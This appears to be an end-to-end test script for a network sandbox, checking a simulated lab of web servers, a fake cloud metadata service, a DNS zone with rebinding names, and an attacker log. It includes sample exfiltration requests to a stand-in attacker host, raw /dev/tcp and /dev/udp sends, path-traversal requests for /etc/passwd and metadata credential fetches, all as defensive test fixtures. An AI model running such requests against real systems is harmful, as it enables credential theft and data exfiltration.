#!/bin/bash
# tests/e2e/t_world.sh: the world every other scenario runs in, checked on
# its own. If a web server, the metadata service, the resolver's zone or the
# attacker's log were wrong, every enforcement scenario built on them would
# pass or fail for the wrong reason; and if teardown leaked, parallel runs
# would collide. Needs no sluiced: leftovers of a daemon are simulated.

. "$(dirname "$0")/lib.sh"
. "$E2E_DIR/world.sh"
require_root

if ! world_up; then
	not_ok "world_up"
	finish
fi
ok "world_up builds host and inet namespaces ($WORLD_TAG)"
H_INO=$(_world_ns_inode "$WORLD_HOST_NS")
I_INO=$(_world_ns_inode "$WORLD_INET_NS")
PIDS=("${_WORLD_PIDS[@]}")

# ------------------------------------------------------------ web servers
get() { world_host curl -s -g -m 5 --path-as-is "$@"; }

out=$(get -i "http://$WORLD_PKG/simple/demo-pkg/")
check_match "package index lists demo-pkg with its sha256" \
    "demo-pkg-1.0.tar.gz#sha256=$(cat "$WORLD_DIR/demo-pkg.sha256")" "$out"
check_match "package index names itself" "X-World-Host: pkg" "$out"
get -o "$E2E_TMP/pkg.tgz" "http://$WORLD_PKG/packages/demo-pkg-1.0.tar.gz"
check_eq "tarball downloads intact" "$(cat "$WORLD_DIR/demo-pkg.sha256")" \
    "$(sha256sum "$E2E_TMP/pkg.tgz" 2>/dev/null | cut -d' ' -f1)"
check_eq "web server 203.0.113.80" "web.example.org" "$(get "http://$WORLD_WEB/")"
check_eq "web server on 443 too" "web.example.org" "$(get "http://$WORLD_WEB:443/")"
check_eq "v6 web server 2001:db8:1::10" "v6.example.org" \
    "$(get "http://[$WORLD_WEB6]/")"
check_match "192.0.2.11 answers HTTP" "hello from nodns" "$(get "http://$WORLD_NODNS/")"
check_eq "/ip shows the client's address (host uplink)" "$WORLD_HOST_V4" \
    "$(get "http://$WORLD_WEB/ip")"
check_eq "/bytes/N gives N bytes" "100000" \
    "$(get "http://$WORLD_PKG/bytes/100000" | wc -c)"
# Hostile paths must not leave the file tree.
code=$(get -o /dev/null -w '%{http_code}' "http://$WORLD_PKG/../../../../etc/passwd")
check_fails "path traversal (..) does not serve /etc/passwd" test "$code" = 200
code=$(get -o /dev/null -w '%{http_code}' "http://$WORLD_PKG/%2e%2e/%2e%2e/etc/passwd")
check_fails "path traversal (%2e%2e) does not serve /etc/passwd" test "$code" = 200
code=$(get -o /dev/null -w '%{http_code}' "http://$WORLD_PKG/simple%2F..%2F..%2F..%2Fetc%2Fpasswd")
check_fails "path traversal (%2F..) does not serve /etc/passwd" test "$code" = 200
code=$(get -o /dev/null -w '%{http_code}' -H "X-Big: $(head -c 70000 /dev/zero | tr '\0' a)" "http://$WORLD_PKG/")
check_eq "oversized request headers are refused (431)" "431" "$code"
check_eq "the index still answers after hostile requests" "package index" \
    "$(get "http://$WORLD_PKG/")"
check_fails "closed port refuses (192.0.2.11:443)" \
    world_host curl -s -m 3 "http://$WORLD_NODNS:443/"

# --------------------------------------------------------------- metadata
out=$(get "http://$WORLD_META/latest/meta-data/iam/security-credentials/demo")
check_match "metadata v4 serves fake credentials" \
    '"AccessKeyId": "AKIAFAKEFAKEFAKE0000"' "$out"
out=$(get "http://[$WORLD_META6]/latest/meta-data/iam/security-credentials/demo")
check_match "metadata v6 (fd00:ec2::254) serves fake credentials" \
    'AKIAFAKEFAKEFAKE0000' "$out"
check_eq "IMDSv2 token" "FAKE-IMDSV2-TOKEN" \
    "$(get -X PUT "http://$WORLD_META/latest/api/token")"
check_eq "GCP metadata refuses without its header" "403" \
    "$(get -o /dev/null -w '%{http_code}' "http://$WORLD_META/computeMetadata/v1/x")"
check_match "GCP metadata answers with Metadata-Flavor" "access_token" \
    "$(get -H 'Metadata-Flavor: Google' "http://$WORLD_META/computeMetadata/v1/x")"
check_match "metadata logs its requests" '"path":"/latest/api/token"' \
    "$(world_log metadata)"

# ------------------------------------------------------------------- ICMP
if command -v ping >/dev/null; then
	for a in "$WORLD_PKG" "$WORLD_ATTACKER" "$WORLD_WEB" "$WORLD_META" \
	    "$WORLD_DNS"; do
		check "ICMP echo $a" world_host ping -n -q -c 1 -W 2 "$a"
	done
	for a in "$WORLD_WEB6" "$WORLD_META6"; do
		check "ICMPv6 echo $a" world_host ping -6 -n -q -c 1 -W 2 "$a"
	done
else
	echo "# ping (iputils-ping) not installed: ICMP not checked"
fi

# -------------------------------------------------------------- resolver
q() { world_host dig +time=2 +tries=1 +short @"${DNS:-$WORLD_DNS}" "$@"; }
check_eq "pkg.example.com A" "$WORLD_PKG" "$(q pkg.example.com A)"
check_eq "web.example.org A" "$WORLD_WEB" "$(q web.example.org A)"
check_eq "v6.example.org AAAA" "$WORLD_WEB6" "$(q v6.example.org AAAA)"
check_eq "v6.example.org has no A" "" "$(q v6.example.org A)"
check_eq "evil.example.net A" "$WORLD_ATTACKER" "$(q evil.example.net A)"
check_eq "rebind.example.com A is the metadata address" "$WORLD_META" \
    "$(q rebind.example.com A)"
check_eq "rebind6.example.com AAAA" "$WORLD_META6" "$(q rebind6.example.com AAAA)"
check_eq "mapped.example.com AAAA (IPv4-mapped metadata)" \
    "::ffff:169.254.169.254" "$(q mapped.example.com AAAA)"
check_eq "loop.example.com A" "127.0.0.1" "$(q loop.example.com A)"
check_eq "private.example.com A" "10.1.2.3" "$(q private.example.com A)"
check_eq "mcp.example.com A" "$WORLD_MCP" "$(q mcp.example.com A)"
ttl=$(world_host dig +time=2 +tries=1 +noall +answer @"$WORLD_DNS" \
    short-ttl.example.com A | awk '{print $2}')
check_eq "short-ttl.example.com has TTL 2" "2" "$ttl"
ttl=$(world_host dig +time=2 +tries=1 +noall +answer @"$WORLD_DNS" \
    pkg.example.com A | awk '{print $2}')
check_eq "other names have TTL 300" "300" "$ttl"
check_eq "cdn.example.org is a CNAME to web.example.org" \
    "web.example.org. $WORLD_WEB" "$(q cdn.example.org A | tr '\n' ' ' | sed 's/ $//')"
check_eq "TXT record" '"v=spf1 -all"' "$(q txt.example.com TXT)"
check_match "HTTPS (type 65) record" 'alpn="h2" ipv4hint=192.0.2.10' \
    "$(q https.example.com HTTPS)"
check_match "SVCB (type 64) record" 'alpn="h2" ipv4hint=192.0.2.10' \
    "$(q svcb.example.com SVCB)"
check_eq "wildcard *.wild.example.com" "$WORLD_PKG" \
    "$(q aGVsbG8gd29ybGQ.x1.wild.example.com A)"
check_match "unknown name in the zone is NXDOMAIN" "status: NXDOMAIN" \
    "$(world_host dig +time=2 +tries=1 @"$WORLD_DNS" nope.example.com A)"
check_match "names outside the zone are refused (no recursion)" \
    "status: REFUSED" \
    "$(world_host dig +time=2 +tries=1 @"$WORLD_DNS" www.debian.org A)"
check_eq "second resolver 198.51.100.53 serves the zone" "$WORLD_PKG" \
    "$(DNS=$WORLD_DNS2 q pkg.example.com A)"
check_match "resolver answers over TCP" "$WORLD_PKG" "$(q +tcp pkg.example.com A)"

log=$(world_resolver_log)
check_match "resolver log shows the host's query" \
    "query\[A\] pkg\.example\.com from $WORLD_HOST_V4" "$log"
check_fails "resolver log hides the world's sync queries" \
    grep -q 'sync\.world\.test' <<<"$log"
world_resolver_clear
check_eq "resolver log is empty after clear" "" "$(world_resolver_log)"
q web.example.org A >/dev/null
log=$(world_resolver_log)
check_match "resolver log after clear has the new query" "web\.example\.org" "$log"
check_fails "resolver log after clear lacks the old query" \
    grep -q 'pkg\.example\.com' <<<"$log"

# --------------------------------------------------------------- attacker
world_attacker_clear
get "http://$WORLD_ATTACKER/steal?k=AKIAFAKE" >/dev/null
get -d 'exfil=1' "http://$WORLD_ATTACKER:8080/up" >/dev/null
world_host bash -c "printf quic-ish >/dev/udp/$WORLD_ATTACKER/443"
world_host bash -c "exec 3<>/dev/tcp/$WORLD_ATTACKER/853 && printf dot-hello >&3"
check "attacker sync" world_attacker_sync
wait_for 5 grep -q dot-hello "$WORLD_DIR/log/attacker.log"
log=$(world_attacker_log)
check_match "attacker logs HTTP requests with path" \
    "\"src\":\"$WORLD_HOST_V4\".*\"path\":\"/steal\?k=AKIAFAKE\"" "$log"
check_match "attacker logs POST bodies on 8080" '"dport":8080.*"body":"exfil=1"' "$log"
check_match "attacker logs UDP datagrams" '"proto":"udp".*"dport":443.*"data":"quic-ish"' "$log"
check_match "attacker logs TCP connections" '"proto":"tcp".*"dport":853.*"data":"dot-hello"' "$log"
check_fails "attacker log hides the world's sync markers" \
    grep -q "world-sync-" <<<"$log"
world_attacker_clear
check "attacker sync after clear" world_attacker_sync
check_eq "attacker log is empty after clear" "" "$(world_attacker_log)"

# ---------------------------------------------------------------- MCP SDK
if [ -e "$E2E_DIR/node_modules/.bin/mcp-server-everything" ]; then
	ev=$E2E_DIR/node_modules/.bin/mcp-server-everything
	out=$(world_mcp_client host \
	    --call echo '{"message":"over stdio"}' --stdio node "$ev" stdio)
	check_match "server-everything over stdio (SDK client)" '"text":"Echo: over stdio"' "$out"
	if world_mcp_http_start 3001; then
		ok "server-everything over Streamable HTTP starts on $WORLD_MCP:3001"
		# One MCP session, three operations, one JSON line each.
		out=$(world_mcp_client host --url "http://$WORLD_MCP:3001/mcp" \
		    --list --call echo '{"message":"hi"}' --call nosuch_tool)
		check_eq "three operations give three lines" 3 "$(wc -l <<<"$out")"
		check_match "tools/list over Streamable HTTP" '"name":"echo"' \
		    "$(sed -n 1p <<<"$out")"
		check_match "tools/call over Streamable HTTP" '"text":"Echo: hi"' \
		    "$(sed -n 2p <<<"$out")"
		check_match "unknown tool is an error result" '"isError":true' \
		    "$(sed -n 3p <<<"$out")"
		world_mcp_client host --url "http://$WORLD_MCP:3001/mcp" \
		    --call echo '{"message":' >/dev/null 2>&1
		check_eq "client refuses malformed argument JSON (exit 2)" 2 $?
		check_fails "client fails on a dead URL" world_mcp_client host \
		    --timeout 5000 \
		    --url "http://$WORLD_NODNS:3999/mcp" --list
	else
		not_ok "server-everything over Streamable HTTP starts"
	fi
	PIDS=("${_WORLD_PIDS[@]}")
else
	not_ok "tests/e2e/node_modules missing: run tests/deps.sh (npm ci)"
fi

# ---------------------------------------------------------- sluiced config
world_sluiced_config "$E2E_TMP/sluice.yaml"
cfg=$(cat "$E2E_TMP/sluice.yaml")
check_match "config names the uplink" "uplink: $WORLD_UPLINK" "$cfg"
check_match "config names the upstream resolver" "- $WORLD_DNS" "$cfg"
check_match "config keeps the socket in the run's temp dir" \
    "socket: $E2E_TMP/" "$cfg"

# The daemon helpers, when a daemon is built (this scenario must not need
# one: the world comes first).
if [ -x "$SLUICED" ]; then
	printf 'version: 1\nname: minimal\n' >"$WORLD_DIR/policies/minimal.yaml"
	check "world_start_sluiced: control socket appears" \
	    world_start_sluiced "$E2E_TMP/sluice.yaml"
	SL_PID=$_WORLD_SLUICED_PID
	check_eq "sluiced runs in the host namespace" "net:[$H_INO]" \
	    "$(readlink "/proc/$SL_PID/ns/net" 2>/dev/null)"
	check "world_stop_sluiced: clean exit" world_stop_sluiced
	check_fails "sluiced is gone after stop" kill -0 "$SL_PID"
else
	echo "# $SLUICED not built: daemon helpers not checked"
fi

# ------------------------------------------- teardown of sluiced leftovers
# What a crashed sluiced leaves: a sandbox namespace with a process, its veth
# (sl-*) in the host namespace, /etc/netns/<ns>, the `inet sluice` table.
# A sluice-* namespace of another run (not linked to our host namespace)
# must survive.
SB=sluice-${WORLD_TAG}t
OTHER=sluice-${WORLD_TAG}o
ip netns add "$SB" && cleanup_push "ip netns del $SB"
ip netns add "$OTHER" && cleanup_push "ip netns del $OTHER"
mkdir -p "/etc/netns/$SB" && cleanup_push "rm -rf /etc/netns/$SB"
echo "nameserver $WORLD_SERVICE" >"/etc/netns/$SB/resolv.conf"
ip -n "$WORLD_HOST_NS" link add sl-0 type veth peer name eth0 netns "$SB"
world_host nft add table inet sluice
SB_INO=$(_world_ns_inode "$SB")
(world_sandbox "${SB#sluice-}" sleep 300; :) 2>/dev/null &
SB_PID=$!
cleanup_push "kill -KILL $SB_PID"
check_eq "leftover sandbox namespace is attributed to this world" "$SB" \
    "$(world_sandbox_namespaces | tr '\n' ' ' | sed 's/ $//')"

# ------------------------------------------------------------- world_down
world_down
wait "$SB_PID" 2>/dev/null
check_eq "no namespace with the run tag is left except the other run's" \
    "$OTHER" "$(ip netns list | grep -o "[^ ]*${WORLD_TAG}[^ ]*" | tr '\n' ' ' | sed 's/ $//')"
check_fails "no /etc/netns leftover" test -e "/etc/netns/$SB"
check_fails "no link with the run tag in this namespace" \
    bash -c "ip -o link show | grep -q '$WORLD_TAG'"
left=""
for p in "${PIDS[@]}" "$SB_PID"; do kill -0 "$p" 2>/dev/null && left="$left $p"; done
check_eq "every process the world started is gone" "" "$left"
left=$(find /proc/[0-9]*/ns/net -maxdepth 0 \( -lname "net:\[$H_INO\]" \
    -o -lname "net:\[$I_INO\]" -o -lname "net:\[$SB_INO\]" \) 2>/dev/null)
check_eq "no process left in the world's namespaces" "" "$left"
check_fails "no process with the run tag" pgrep -f -- "$WORLD_TAG"
ip netns del "$OTHER"
world_down
ok "world_down is idempotent"
finish
